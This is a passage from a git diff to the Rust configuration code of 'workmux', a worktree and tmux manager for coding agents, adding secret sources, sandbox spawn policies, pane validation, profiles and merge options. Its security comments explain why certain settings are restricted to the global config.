+/// Exactly one source key must be set:
+/// - `{ command: "op read op://vault/item/key" }` runs a shell command
+/// - `{ keychain: "service-name" }` reads from the macOS login keychain
+/// - `{ pass: "path/in/store" }` reads the first line from `pass`
+#[derive(Debug, Deserialize, Serialize, Clone, PartialEq)]
+#[serde(untagged)]
+pub enum SecretSource {
+    /// Output of a shell command (trailing newline stripped)
+    Command { command: String },
+    /// macOS keychain generic password, optionally scoped to an account
+    Keychain {
+        keychain: String,
+        #[serde(default)]
+        account: Option<String>,
+    },
+    /// Entry in the `pass` password store
+    Pass { pass: String },
+}
+
 /// Expand `~` or `~/...` to the user's home directory.
 fn expand_tilde(path: &str) -> PathBuf {
     if let Some(rest) = path.strip_prefix("~/") {
@@ -630,6 +1517,61 @@ fn validate_domain(domain: &str) -> anyhow::Result<()> {
     Ok(())
 }
 
+/// A default base for new branches whose name matches `pattern`.
+#[derive(Debug, Deserialize, Serialize, Clone, PartialEq)]
+pub struct BaseBranchRule {
+    /// Glob matched against the branch name, e.g. `hotfix/*`
+    pub pattern: String,
+    /// Branch to create matching branches from, e.g. `release/1.2`
+    pub base: String,
+}
+
+/// Limits on what a sandboxed agent may request when it spawns agents on the
+/// host via `workmux add`.
+#[derive(Debug, Deserialize, Serialize, Default, Clone, PartialEq)]
+pub struct SpawnPolicyConfig {
+    /// Agents a guest may select with `--agent`.
+    /// Default: only the configured `agent`.
+    #[serde(default)]
+    pub agents: Option<Vec<String>>,
+
+    /// Layouts a guest may select with `--layout`.
+    /// Default: any layout defined in `layouts`.
+    #[serde(default)]
+    pub layouts: Option<Vec<String>>,
+
+    /// Base branches a guest may branch from with `--base`. Entries ending
+    /// in `*` match by prefix (e.g. `release/*`). Default: any.
+    #[serde(default)]
+    pub bases: Option<Vec<String>>,
+}
+
+impl SpawnPolicyConfig {
+    /// Whether a guest may select `agent`; `default_agent` is always allowed
+    /// when no `agents` list is configured.
+    pub fn allows_agent(&self, agent: &str, default_agent: Option<&str>) -> bool {
+        match &self.agents {
+            Some(agents) => agents.iter().any(|a| a == agent),
+            None => default_agent == Some(agent),
+        }
+    }
+
+    pub fn allows_layout(&self, layout: &str) -> bool {
+        self.layouts
+            .as_ref()
+            .is_none_or(|layouts| layouts.iter().any(|l| l == layout))
+    }
+
+    pub fn allows_base(&self, base: &str) -> bool {
+        self.bases.as_ref().is_none_or(|bases| {
+            bases.iter().any(|pattern| match pattern.strip_suffix('*') {
+                Some(prefix) => base.starts_with(prefix),
+                None => pattern == base,
+            })
+        })
+    }
+}
+
 /// Configuration for sandboxing (Container or Lima)
 #[derive(Debug, Deserialize, Serialize, Default, Clone)]
 pub struct SandboxConfig {
@@ -698,11 +1640,39 @@ pub struct SandboxConfig {
     #[serde(default)]
     pub network: NetworkConfig,
 
+    /// What sandboxed agents may request when spawning agents over RPC
+    #[serde(default)]
+    pub spawn: SpawnPolicyConfig,
+
+    /// Show a desktop notification when a sandboxed agent asks to run a
+    /// host command that isn't allowed. Default: false
+    #[serde(default)]
+    pub notify_denied: Option<bool>,
+
+    /// Pull container sandbox images ahead of time: on `workmux setup`, and
+    /// whenever a newer official image is published. Default: false
+    #[serde(default)]
+    pub prefetch: Option<bool>,
+
     /// Allow host-exec to run without bwrap sandboxing on Linux.
     /// Default: false (fail closed -- refuse to run if bwrap is missing).
     /// When true, falls back to unsandboxed execution with a warning.
     #[serde(default)]
     pub dangerously_allow_unsandboxed_host_exec: Option<bool>,
+
+    /// Secrets injected into the sandboxed agent process only.
+    /// Maps environment variable names to a source (command, keychain, pass).
+    /// Values are resolved by the supervisor at launch and never written to
+    /// host panes, command lines, or logs.
+    #[serde(default)]
+    pub secrets: Option<BTreeMap<String, SecretSource>>,
+
+    /// Environment variables shared by the sandboxed agent and the host
+    /// panes of a worktree (ports, feature flags). Written to one env file
+    /// per worktree that host panes source and the sandbox is started with.
+    /// Project entries are added to (and override) global ones.
+    #[serde(default)]
+    pub shared_env: Option<BTreeMap<String, String>>,
 }
 
 impl SandboxConfig {
@@ -759,6 +1729,23 @@ impl SandboxConfig {
         self.extra_mounts.as_deref().unwrap_or(&[])
     }
 
+    pub fn secrets(&self) -> Option<&BTreeMap<String, SecretSource>> {
+        self.secrets.as_ref().filter(|s| !s.is_empty())
+    }
+
+    /// Default: none
+    pub fn shared_env(&self) -> Option<&BTreeMap<String, String>> {
+        self.shared_env.as_ref().filter(|vars| !vars.is_empty())
+    }
+
+    pub fn notify_denied(&self) -> bool {
+        self.notify_denied.unwrap_or(false)
+    }
+
+    pub fn prefetch(&self) -> bool {
+        self.prefetch.unwrap_or(false)
+    }
+
     pub fn allow_unsandboxed_host_exec(&self) -> bool {
         self.dangerously_allow_unsandboxed_host_exec
             .unwrap_or(false)
@@ -938,17 +1925,24 @@ pub fn validate_panes_config(panes: &[PaneConfig]) -> anyhow::Result<()> {
             );
         }
 
-        // Validate percentage range
+        // Validate percentage range; the split pane has to keep some room
         if let Some(p) = pane.percentage
-            && !(1..=100).contains(&p)
+            && !(1..=99).contains(&p)
         {
             anyhow::bail!(
-                "Pane {} has invalid percentage {}. Must be between 1 and 100.",
+                "Pane {} has invalid percentage {}. Must be between 1 and 99.",
                 i,
                 p
             );
         }
 
+        if pane.history_limit == Some(0) {
+            anyhow::bail!(
+                "Pane {} has 'history_limit: 0'. Leave it unset to keep the default scrollback.",
+                i
+            );
+        }
+
         // If target is specified, validate it's a valid index
         if let Some(target) = pane.target
             && target >= i
@@ -960,10 +1954,103 @@ pub fn validate_panes_config(panes: &[PaneConfig]) -> anyhow::Result<()> {
                 i.saturating_sub(1)
             );
         }
+
+        if pane.wait_for.as_ref().is_some_and(PaneWaitFor::is_empty) {
+            anyhow::bail!(
+                "Pane {} has an empty 'wait_for'. Set 'port', 'file' or 'command'.",
+                i
+            );
+        }
+
+        for &dep in pane.depends_on.iter().flatten() {
+            if dep >= panes.len() || dep == i {
+                anyhow::bail!(
+                    "Pane {} has invalid depends_on {}. It must reference another pane (0-{}).",
+                    i,
+                    dep,
+                    panes.len() - 1
+                );
+            }
+            if panes[dep].wait_for.is_none() {
+                anyhow::bail!(
+                    "Pane {} depends on pane {}, which has no 'wait_for' readiness check.",
+                    i,
+                    dep
+                );
+            }
+        }
+    }
+
+    // Each split takes its percentage of what is left of the pane it splits,
+    // so splitting one pane repeatedly can leave it next to nothing
+    let mut kept: BTreeMap<(usize, bool), (u64, Vec<usize>)> = BTreeMap::new();
+    for (i, pane) in panes.iter().enumerate().skip(1) {
+        let (Some(split), Some(p)) = (&pane.split, pane.percentage) else {
+            continue;
+        };
+        let target = pane.target.unwrap_or(i - 1);
+        let horizontal = *split == SplitDirection::Horizontal;
+        let (share, splits) = kept
+            .entry((target, horizontal))
+            .or_insert((1_000_000, Vec::new()));
+        *share = *share * (100 - u64::from(p)) / 100;
+        splits.push(i);
+        if *share < 10_000 {
+            anyhow::bail!(
+                "Panes {} split pane {} by percentages that leave it less than 1% of its space.",
+                splits
+                    .iter()
+                    .map(|s| s.to_string())
+                    .collect::<Vec<_>>()
+                    .join(", "),
+                target
+            );
+        }
+    }
+
+    if let Some(i) = find_dependency_cycle(panes) {
+        anyhow::bail!("Pane {} is part of a depends_on cycle.", i);
     }
     Ok(())
 }
 
+/// Find a pane whose `depends_on` chain leads back to itself.
+fn find_dependency_cycle(panes: &[PaneConfig]) -> Option<usize> {
+    fn reaches(panes: &[PaneConfig], from: usize, target: usize, seen: &mut Vec<bool>) -> bool {
+        for &dep in panes[from].depends_on.iter().flatten() {
+            if dep == target {
+                return true;
+            }
+            if dep < panes.len() && !seen[dep] {
+                seen[dep] = true;
+                if reaches(panes, dep, target, seen) {
+                    return true;
+                }
+            }
+        }
+        false
+    }
+
+    (0..panes.len()).find(|&i| reaches(panes, i, i, &mut vec![false; panes.len()]))
+}
+
+/// Profile selected with `--profile`, taking precedence over `WORKMUX_PROFILE`.
+static PROFILE: OnceLock<String> = OnceLock::new();
+
+/// Select the profile `Config::load` applies. Called once, for `--profile`.
+pub fn set_profile(name: String) {
+    let _ = PROFILE.set(name);
+}
+
+/// The profile selected with `--profile` or `WORKMUX_PROFILE`, if any.
+pub fn active_profile() -> Option<String> {
+    PROFILE.get().cloned().or_else(|| {
+        env::var("WORKMUX_PROFILE")
+            .ok()
+            .filter(|name| !name.is_empty())
+    })
+}
+
 /// Get the path to the global config file.
 /// Prefers existing .yml file to avoid shadowing, otherwise defaults to .yaml.
 pub fn global_config_path() -> Option<PathBuf> {
@@ -986,14 +2073,17 @@ impl Config {
         let global_config = Self::load_global()?.unwrap_or_default();
         let project_config = Self::load_project()?.unwrap_or_default();
 
-        let final_agent = cli_agent
-            .map(|s| s.to_string())
-            .or_else(|| project_config.agent.clone())
-            .or_else(|| global_config.agent.clone())
-            .unwrap_or_else(|| "claude".to_string());
-
         let mut config = global_config.merge(project_config);
-        config.agent = Some(final_agent);
+        if let Some(profile) = active_profile() {
+            config = config.apply_profile(&profile)?;
+        }
+        config.agent = Some(
+            cli_agent
+                .map(|s| s.to_string())
+                .or(config.agent)
+                .unwrap_or_else(|| "claude".to_string()),
+        );
+        config.apply_project_window_prefix();
 
         // After merging, apply sensible defaults for any values that are not configured.
         let repo_root_opt = vcs::try_detect_vcs().and_then(|v| v.get_repo_root().ok());
@@ -1024,6 +2114,8 @@ impl Config {
         }
 
         config.sandbox.network.validate()?;
+        config.validate_base_branches()?;
+        config.validate_layouts()?;
 
         debug!(
             agent = ?config.agent,
@@ -1044,14 +2136,17 @@ impl Config {
         let (project_config, location) = Self::load_project_with_location()?;
         let project_config = project_config.unwrap_or_default();
 
-        let final_agent = cli_agent
-            .map(|s| s.to_string())
-            .or_else(|| project_config.agent.clone())
-            .or_else(|| global_config.agent.clone())
-            .unwrap_or_else(|| "claude".to_string());
-
         let mut config = global_config.merge(project_config);
-        config.agent = Some(final_agent);
+        if let Some(profile) = active_profile() {
+            config = config.apply_profile(&profile)?;
+        }
+        config.agent = Some(
+            cli_agent
+                .map(|s| s.to_string())
+                .or(config.agent)
+                .unwrap_or_else(|| "claude".to_string()),
+        );
+        config.apply_project_window_prefix();
 
         // Apply defaults - scope to config directory if nested config found
         let defaults_root = location
@@ -1081,6 +2176,8 @@ impl Config {
         }
 
         config.sandbox.network.validate()?;
+        config.validate_base_branches()?;
+        config.validate_layouts()?;
 
         debug!(
             agent = ?config.agent,
@@ -1143,6 +2240,18 @@ impl Config {
         Ok(config)
     }
 
+    /// The `provider` set for the repository containing `dir`: the project
+    /// config's, else the global one.
+    pub fn provider_for(dir: &Path) -> Option<ForgeProvider> {
+        let project = find_project_config(dir)
+            .ok()
+            .flatten()
+            .and_then(|location| Self::load_from_path(&location.config_path).ok().flatten());
+        project
+            .and_then(|config| config.provider)
+            .or_else(|| Self::load_global().ok().flatten()?.provider)
+    }
+
     /// Merge a project config into a global config.
     /// Project config takes precedence. For lists, "<global>" placeholder expands to global items.
     fn merge(self, project: Self) -> Self {
@@ -1152,13 +2261,21 @@ impl Config {
             global: Option<Vec<String>>,
             project: Option<Vec<String>>,
         ) -> Option<Vec<String>> {
+            merge_with_placeholder(global, project, |s| s == "<global>")
+        }
+
+        fn merge_with_placeholder<T: Clone>(
+            global: Option<Vec<T>>,
+            project: Option<Vec<T>>,
+            is_placeholder: impl Fn(&T) -> bool,
+        ) -> Option<Vec<T>> {
             match (global, project) {
                 (Some(global_items), Some(project_items)) => {
-                    let has_placeholder = project_items.iter().any(|s| s == "<global>");
+                    let has_placeholder = project_items.iter().any(&is_placeholder);
                     if has_placeholder {
                         let mut result = Vec::new();
                         for item in project_items {
-                            if item == "<global>" {
+                            if is_placeholder(&item) {
                                 result.extend(global_items.clone());
                             } else {
                                 result.push(item);
@@ -1192,16 +2309,42 @@ impl Config {
             self,
             project,
             main_branch,
+            base_branches,
             worktree_dir,
+            archive_dir,
             window_prefix,
+            window_prefixes,
             agent,
+            agent_init,
+            agent_submit,
             merge_strategy,
+            merge_on_conflict,
+            merge_push,
+            merge_delete_remote,
+            merge_push_rebased,
+            upstream_remote,
             worktree_prefix,
             panes,
             windows,
+            layouts,
+            min_pane_width,
+            min_pane_height,
+            groups,
             status_format,
+            heartbeat_timeout,
+            protect_main,
+            max_prompt_kb,
+            redact_prompts,
+            prompt_prefix,
+            prompt_suffix,
+            strict_quoting,
             auto_name,
             nerdfont,
+            hyperlinks,
+            on_collision,
+            focus_new_window,
+            provider,
+            priority,
         );
 
         // windows and panes are mutually exclusive: project layout choice wins entirely
@@ -1232,8 +2375,20 @@ impl Config {
         // Special case: mode (project wins if explicitly set)
         merged.mode = project.mode.or(self.mode);
 
+        // Profiles: merged by name, project entries win
+        merged.profiles = match (self.profiles, project.profiles) {
+            (Some(mut global), Some(project)) => {
+                global.extend(project);
+                Some(global)
+            }
+            (global, project) => project.or(global),
+        };
+
         // List values with "<global>" placeholder support
-        merged.post_create = merge_vec_with_placeholder(self.post_create, project.post_create);
+        merged.post_create =
+            merge_with_placeholder(self.post_create, project.post_create, |hook| {
+                hook.command() == "<global>"
+            });
         merged.pre_merge = merge_vec_with_placeholder(self.pre_merge, project.pre_merge);
         merged.pre_remove = merge_vec_with_placeholder(self.pre_remove, project.pre_remove);
 
@@ -1245,9 +2400,33 @@ impl Config {
 
         // Status icons: per-field override
         merged.status_icons = StatusIcons {
+            theme: project.status_icons.theme.or(self.status_icons.theme),
             working: project.status_icons.working.or(self.status_icons.working),
             waiting: project.status_icons.waiting.or(self.status_icons.waiting),
             done: project.status_icons.done.or(self.status_icons.done),
+            unknown: project.status_icons.unknown.or(self.status_icons.unknown),
+        };
+
+        // Branch policy: per-field override
+        // Security: the ticket source is global-only. Project config cannot
+        // set it -- a ticket command would run on the host even for worktrees
+        // spawned from a sandbox, where project hooks are skipped.
+        merged.branch_policy = BranchPolicyConfig {
+            pattern: project.branch_policy.pattern.or(self.branch_policy.pattern),
+            template: project
+                .branch_policy
+                .template
+                .or(self.branch_policy.template),
+            kind: project.branch_policy.kind.or(self.branch_policy.kind),
+            ticket: {
+                if project.branch_policy.ticket.is_some() {
+                    tracing::warn!(
+                        "branch_policy.ticket in project config (.workmux.yaml) is ignored -- \
+                        move it to your global config (~/.config/workmux/config.yaml)"
+                    );
+                }
+                self.branch_policy.ticket
+            },
         };
 
         // Dashboard actions: per-field override
@@ -1262,6 +2441,108 @@ impl Config {
                 .dashboard
                 .show_check_counts
                 .or(self.dashboard.show_check_counts),
+            opencode_server: project
+                .dashboard
+                .opencode_server
+                .or(self.dashboard.opencode_server),
+            confirm: project.dashboard.confirm.or(self.dashboard.confirm),
+            set_title: project.dashboard.set_title.or(self.dashboard.set_title),
+            remind_after: project
+                .dashboard
+                .remind_after
+                .or(self.dashboard.remind_after),
+            remind_every: project
+                .dashboard
+                .remind_every
+                .or(self.dashboard.remind_every),
+            remind_notify: project
+                .dashboard
+                .remind_notify
+                .or(self.dashboard.remind_notify),
+            remind_bell: project.dashboard.remind_bell.or(self.dashboard.remind_bell),
+            evidence_lines: project
+                .dashboard
+                .evidence_lines
+                .or(self.dashboard.evidence_lines),
+            watch_files: project.dashboard.watch_files.or(self.dashboard.watch_files),
+        };
+
+        // Handshake: per-field override
+        merged.handshake = HandshakeConfig {
+            timeout: project.handshake.timeout.or(self.handshake.timeout),
+            poll_interval_ms: project
+                .handshake
+                .poll_interval_ms
+                .or(self.handshake.poll_interval_ms),
+            retries: project.handshake.retries.or(self.handshake.retries),
+            verify_input: project
+                .handshake
+                .verify_input
+                .or(self.handshake.verify_input),
+            queue_prompts: project
+                .handshake
+                .queue_prompts
+                .or(self.handshake.queue_prompts),
+            not_ready_text: project
+                .handshake
+                .not_ready_text
+                .or(self.handshake.not_ready_text),
+            prompt_retries: project
+                .handshake
+                .prompt_retries
+                .or(self.handshake.prompt_retries),
+        };
+
+        // Branch backup: per-field override
+        merged.branch_backup = BranchBackupConfig {
+            enabled: project.branch_backup.enabled.or(self.branch_backup.enabled),
+            keep_days: project
+                .branch_backup
+                .keep_days
+                .or(self.branch_backup.keep_days),
+        };
+
+        // Garbage collection: per-field override
+        merged.gc = GcConfig {
+            logs_days: project.gc.logs_days.or(self.gc.logs_days),
+            prompts_days: project.gc.prompts_days.or(self.gc.prompts_days),
+            sandbox_days: project.gc.sandbox_days.or(self.gc.sandbox_days),
+        };
+
+        // Git hooks: per-field override
+        merged.git_hooks = GitHooksConfig {
+            skip: project.git_hooks.skip.or(self.git_hooks.skip),
+            install: project.git_hooks.install.or(self.git_hooks.install),
+        };
+
+        // Security: preemption is global-only. Project config cannot set it
+        // -- its resume input is typed into other projects' agents, so a
+        // malicious repo could otherwise inject commands via .workmux.yaml.
+        merged.preemption = {
+            if project.preemption.enabled.is_some() || project.preemption.agents.is_some() {
+                tracing::warn!(
+                    "preemption in project config (.workmux.yaml) is ignored -- \
+                    move it to your global config (~/.config/workmux/config.yaml)"
+                );
+            }
+            self.preemption
+        };
+
+        // Security: notifications are global-only. Their webhook and command
+        // run on the host, including for agents in a sandbox.
+        merged.notifications = {
+            let project = &project.notifications;
+            if project.on.is_some()
+                || project.desktop.is_some()
+                || project.webhook.is_some()
+                || project.command.is_some()
+            {
+                tracing::warn!(
+                    "notifications in project config (.workmux.yaml) is ignored -- \
+                    move it to your global config (~/.config/workmux/config.yaml)"
+                );
+            }
+            self.notifications
         };
 
         // Sandbox config: per-field override with nested struct merging
@@ -1370,10 +2651,44 @@ impl Config {
                 }
                 self.sandbox.network.clone()
             },
+            // Security: spawn is global-only. Project config cannot set it --
+            // this prevents a malicious repo from letting its guest spawn
+            // arbitrary agent commands on the host via .workmux.yaml.
+            spawn: {
+                if project.sandbox.spawn != SpawnPolicyConfig::default() {
+                    tracing::warn!(
+                        "spawn in project config (.workmux.yaml) is ignored -- \
+                        move it to your global config (~/.config/workmux/config.yaml)"
+                    );
+                }
+                self.sandbox.spawn.clone()
+            },
+            notify_denied: project.sandbox.notify_denied.or(self.sandbox.notify_denied),
+            prefetch: project.sandbox.prefetch.or(self.sandbox.prefetch),
             // Security: global-only, same as host_commands.
             dangerously_allow_unsandboxed_host_exec: self
                 .sandbox
                 .dangerously_allow_unsandboxed_host_exec,
+            // Security: secrets is global-only. Project config cannot set it --
+            // this prevents a malicious repo from running arbitrary secret
+            // source commands or exfiltrating keychain entries via .workmux.yaml.
+            secrets: {
+                if project.sandbox.secrets.is_some() {
+                    tracing::warn!(
+                        "secrets in project config (.workmux.yaml) is ignored -- \
+                        move it to your global config (~/.config/workmux/config.yaml)"
+                    );
+                }
+                self.sandbox.secrets.clone()
+            },
+            // Plain values the project's own panes could set anyway
+            shared_env: match (self.sandbox.shared_env, project.sandbox.shared_env) {
+                (Some(mut global), Some(project)) => {
+                    global.extend(project);
+                    Some(global)
+                }
+                (global, project) => project.or(global),
+            },
         };
 
         merged
@@ -1389,6 +2704,40 @@ impl Config {
                 size: None,
                 percentage: None,
                 target: None,
+                depends_on: None,
+                wait_for: None,
+                history_limit: None,
+                log_output: false,
+            },
+            PaneConfig {
+                command: Some("clear".to_string()),
+                focus: false,
+                split: Some(SplitDirection::Horizontal),
+                size: None,
+                percentage: None,
+                target: None, // Splits most recent (pane 0)
+                depends_on: None,
+                wait_for: None,
+                history_limit: None,
+                log_output: false,
+            },
+        ]
+    }
+
+    /// Get default panes for a Claude project.
+    fn claude_default_panes() -> Vec<PaneConfig> {
+        vec![
+            PaneConfig {
+                command: Some("<agent>".to_string()),
+                focus: true,
+                split: None,
+                size: None,
+                percentage: None,
+                target: None,
+                depends_on: None,
+                wait_for: None,
+                history_limit: None,
+                log_output: false,
             },
             PaneConfig {
                 command: Some("clear".to_string()),
@@ -1397,30 +2746,143 @@ impl Config {
                 size: None,
                 percentage: None,
                 target: None, // Splits most recent (pane 0)
+                depends_on: None,
+                wait_for: None,
+                history_limit: None,
+                log_output: false,
             },
         ]
     }
 
-    /// Get default panes for a Claude project.
-    fn claude_default_panes() -> Vec<PaneConfig> {
-        vec![
-            PaneConfig {
-                command: Some("<agent>".to_string()),
-                focus: true,
-                split: None,
-                size: None,
-                percentage: None,
-                target: None,
-            },
-            PaneConfig {
-                command: Some("clear".to_string()),
-                focus: false,
-                split: Some(SplitDirection::Horizontal),
-                size: None,
-                percentage: None,
-                target: None, // Splits most recent (pane 0)
-            },
-        ]
+    /// Whether sending input to agents in the main worktree is guarded.
+    /// Default: false
+    pub fn protect_main(&self) -> bool {
+        self.protect_main.unwrap_or(false)
+    }
+
+    /// Directory for worktree archives.
+    /// Default: `<state>/workmux/archives`, next to the pane transcripts
+    pub fn archive_dir(&self) -> anyhow::Result<PathBuf> {
+        match &self.archive_dir {
+            Some(dir) => Ok(expand_tilde(dir)),
+            None => Ok(crate::state::store::get_state_dir()?
+                .join("workmux")
+                .join("archives")),
+        }
+    }
+
+    /// Maximum prompt size in KB (minimum 1).
+    /// Default: 100 (agents receive the prompt as a single argument, which
+    /// Linux caps at 128 KB)
+    pub fn max_prompt_kb(&self) -> u64 {
+        self.max_prompt_kb.unwrap_or(100).max(1)
+    }
+
+    /// Configured submit settings for the agent profile named `profile`
+    /// (e.g. "opencode").
+    pub fn agent_submit_for(&self, profile: &str) -> Option<&AgentSubmit> {
+        let agents = self.agent_submit.as_ref()?;
+        agents.get(profile).or_else(|| agents.get("default"))
+    }
+
+    /// What `workmux merge` does when the merge has conflicts.
+    /// Default: abort
+    pub fn merge_on_conflict(&self) -> ConflictStrategy {
+        self.merge_on_conflict.unwrap_or_default()
+    }
+
+    /// Whether `workmux merge` pushes the target branch.
+    /// Default: false
+    pub fn merge_push(&self) -> bool {
+        self.merge_push.unwrap_or(false)
+    }
+
+    /// Whether `workmux merge` deletes the merged branch on its remote.
+    /// Default: false
+    pub fn merge_delete_remote(&self) -> bool {
+        self.merge_delete_remote.unwrap_or(false)
+    }
+
+    /// Whether `workmux merge --rebase` force-pushes the rebased branch.
+    /// Default: false
+    pub fn merge_push_rebased(&self) -> bool {
+        self.merge_push_rebased.unwrap_or(false)
+    }
+
+    /// Whether prompt text is redacted from logs.
+    /// Default: true
+    pub fn redact_prompts(&self) -> bool {
+        self.redact_prompts.unwrap_or(true)
+    }
+
+    /// Whether generated commands and new branch names are checked for
+    /// quoting problems.
+    /// Default: false
+    pub fn strict_quoting(&self) -> bool {
+        self.strict_quoting.unwrap_or(false)
+    }
+
+    /// Seconds without a heartbeat before a dead agent is marked unknown;
+    /// `None` when the check is disabled.
+    /// Default: 300
+    pub fn heartbeat_timeout(&self) -> Option<u64> {
+        Some(self.heartbeat_timeout.unwrap_or(300)).filter(|&secs| secs > 0)
+    }
+
+    /// Whether worktree paths and PR numbers in command output are OSC 8
+    /// hyperlinks (only ever emitted to a terminal).
+    /// Default: true
+    pub fn hyperlinks(&self) -> bool {
+        self.hyperlinks.unwrap_or(true)
+    }
+
+    /// Narrowest a pane is made when sizing splits to fit the window.
+    /// Default: 20
+    pub fn min_pane_width(&self) -> u16 {
+        self.min_pane_width.unwrap_or(20)
+    }
+
+    /// Shortest a pane is made when sizing splits to fit the window.
+    /// Default: 5
+    pub fn min_pane_height(&self) -> u16 {
+        self.min_pane_height.unwrap_or(5)
+    }
+
+    /// Check `panes`, `windows` and every named layout, so that mistakes
+    /// show up when the config is loaded rather than halfway through
+    /// creating a window.
+    fn validate_layouts(&self) -> anyhow::Result<()> {
+        if let Some(panes) = &self.panes {
+            validate_panes_config(panes)?;
+        }
+        if let Some(windows) = &self.windows {
+            validate_windows_config(windows)?;
+        }
+        for (name, panes) in self.layouts.iter().flatten() {
+            validate_panes_config(panes)
+                .map_err(|e| anyhow::anyhow!("Layout '{}': {}", name, e))?;
+        }
+        Ok(())
+    }
+
+    /// Check that every `base_branches` pattern is a valid glob.
+    fn validate_base_branches(&self) -> anyhow::Result<()> {
+        for rule in self.base_branches.iter().flatten() {
+            if let Err(e) = glob::Pattern::new(&rule.pattern) {
+                anyhow::bail!("Invalid base_branches pattern '{}': {}", rule.pattern, e);
+            }
+        }
+        Ok(())
+    }
+
+    /// Base configured for `branch` by the first matching `base_branches`
+    /// rule. Rules with invalid patterns never match.
+    pub fn base_for_branch(&self, branch: &str) -> Option<&str> {
+        self.base_branches
+            .iter()
+            .flatten()
+            .find(|rule| glob::Pattern::new(&rule.pattern).is_ok_and(|p| p.matches(branch)))
+            .map(|rule| rule.base.as_str())
     }
 
     /// Get the window prefix to use.
@@ -1435,29 +2897,109 @@ impl Config {
         }
     }
 
+    /// Resolve the window prefix for the current project.
+    ///
+    /// A `window_prefixes` entry for the project replaces `window_prefix`.
+    fn apply_project_window_prefix(&mut self) {
+        let Some(vcs) = vcs::try_detect_vcs() else {
+            return;
+        };
+        let Ok(root) = vcs.get_main_workspace_root() else {
+            return;
+        };
+        let project = project_name(&root);
+        if let Some(prefix) = self.window_prefixes.as_ref().and_then(|p| p.get(&project)) {
+            self.window_prefix = Some(prefix.clone());
+        }
+    }
+
+    /// Window prefix for the windows of `vcs`'s project.
+    ///
+    /// If the project's window names were qualified (after a collision with
+    /// another project), the project name is appended to `window_prefix()`.
+    /// Views across projects keep using `window_prefix()`, which matches both
+    /// forms.
+    pub fn window_prefix_for(&self, vcs: &dyn vcs::Vcs) -> String {
+        let prefix = self.window_prefix();
+        match vcs.get_main_workspace_root() {
+            Ok(root) if vcs.get_repo_meta(QUALIFY_PREFIX_META).as_deref() == Some("true") => {
+                qualified_prefix(prefix, &project_name(&root))
+            }
+            _ => prefix.to_string(),
+        }
+    }
+
     /// Get the mode (window or session).
     /// Returns the configured value or defaults to Window.
     pub fn mode(&self) -> MuxMode {
         self.mode.unwrap_or(MuxMode::Window)
     }
 
-    /// Create an example .workmux.yaml configuration file
-    pub fn init() -> anyhow::Result<()> {
-        use std::path::PathBuf;
+    /// What `workmux add` does when the target window already exists.
+    pub fn on_collision(&self) -> WindowCollision {
+        self.on_collision.unwrap_or_default()
+    }
 
-        let config_path = PathBuf::from(".workmux.yaml");
+    /// Whether `workmux add` switches to the window it creates.
+    pub fn focus_new_window(&self) -> FocusPolicy {
+        self.focus_new_window.unwrap_or_default()
+    }
 
-        if config_path.exists() {
-            return Err(anyhow::anyhow!(
-                ".workmux.yaml already exists. Remove it first if you want to regenerate it."
-            ));
+    /// Overlay the named entry from `profiles`. It takes precedence over the
+    /// rest of the config the way project config does over global config,
+    /// so global-only settings in a profile are ignored.
+    fn apply_profile(self, name: &str) -> anyhow::Result<Self> {
+        let Some(profile) = self.profiles.as_ref().and_then(|p| p.get(name)) else {
+            let available: Vec<&str> = self
+                .profiles
+                .iter()
+                .flat_map(|p| p.keys())
+                .map(String::as_str)
+                .collect();
+            if available.is_empty() {
+                anyhow::bail!("Unknown profile '{}': no profiles are configured", name);
+            }
+            anyhow::bail!(
+                "Unknown profile '{}'. Available profiles: {}",
+                name,
+                available.join(", ")
+            );
+        };
+        if profile.profiles.is_some() {
+            anyhow::bail!("Profile '{}' can't define profiles of its own", name);
         }
+        let profile = profile.clone();
+        debug!(profile = name, "config:applying profile");
+        Ok(self.merge(profile))
+    }
+
+    /// Use the named entry from `layouts` as the pane layout.
+    pub fn apply_layout(&mut self, name: &str) -> anyhow::Result<()> {
+        let Some(panes) = self.layouts.as_ref().and_then(|l| l.get(name)) else {
+            let available: Vec<&str> = self
+                .layouts
+                .iter()
+                .flat_map(|l| l.keys())
+                .map(String::as_str)
+                .collect();
+            if available.is_empty() {
+                anyhow::bail!("Unknown layout '{}': no layouts are configured", name);
+            }
+            anyhow::bail!(
+                "Unknown layout '{}'. Available layouts: {}",
+                name,
+                available.join(", ")
+            );
+        };
+        self.panes = Some(panes.clone());
+        self.windows = None;
+        Ok(())
+    }
 
-        let example_config = r#"# workmux project configuration
-# For global settings, edit ~/.config/workmux/config.yaml
-# All options below are commented out - uncomment to override defaults.
-
-#-------------------------------------------------------------------------------
+    /// Commented-out reference of every project option, appended to the
+    /// `.workmux.yaml` generated by `workmux init`.
+    pub fn example_config() -> &'static str {
+        r#"#-------------------------------------------------------------------------------
 # Appearance
 #-------------------------------------------------------------------------------
 
@@ -1465,6 +3007,10 @@ impl Config {
 # Options: dark (default), light
 # theme: dark
 
+# Make worktree paths and PR numbers in `workmux list` and merge output
+# clickable (OSC 8 hyperlinks). Only emitted when writing to a terminal.
+# hyperlinks: true
+
 #-------------------------------------------------------------------------------
 # Git
 #-------------------------------------------------------------------------------
@@ -1473,11 +3019,70 @@ impl Config {
 # Default: Auto-detected from remote HEAD, falls back to main/master.
 # main_branch: main
 
+# Default bases for new branches, by branch name pattern (first match wins).
+# Applies when `workmux add` creates a branch without --base, and to branches
+# with no recorded base when merging and cleaning up. The base a branch was
+# created from is recorded and used from then on.
+# base_branches:
+#   - pattern: "hotfix/*"
+#     base: release/1.2
+#   - pattern: "backport-*"
+#     base: release/1.1
+
 # Default merge strategy for `workmux merge`.
 # Options: merge (default), rebase, squash
 # CLI flags (--rebase, --squash) always override this.
 # merge_strategy: rebase
 
+# What `workmux merge` does when merging the branch has conflicts.
+# Options:
+#   abort (default): abort the merge, keep the target clean and report how to
+#     resolve the conflicts.
+#   keep: also start the merge (or rebase) in the branch's worktree and leave
+#     its conflicts there to resolve, with a desktop notification.
+#   agent: like keep, then ask the worktree's agent to resolve the conflicts
+#     and run `workmux merge` again.
+# The --on-conflict flag overrides this.
+# merge_on_conflict: agent
+
+# Sync the remote after a successful `workmux merge`.
+# merge_push_rebased: force-push (with lease) the feature branch after
+#   rebasing it (rebase strategy only), so an open PR shows the merged commits.
+# merge_push: push the target branch to its upstream remote.
+# merge_delete_remote: delete the feature branch on its remote.
+# CLI flags (--push-rebased, --push, --delete-remote) enable these per merge.
+# Default: false for all.
+# merge_push: true
+# merge_delete_remote: true
+# merge_push_rebased: true
+
+# Remote of the canonical repository when `origin` is your fork. `workmux
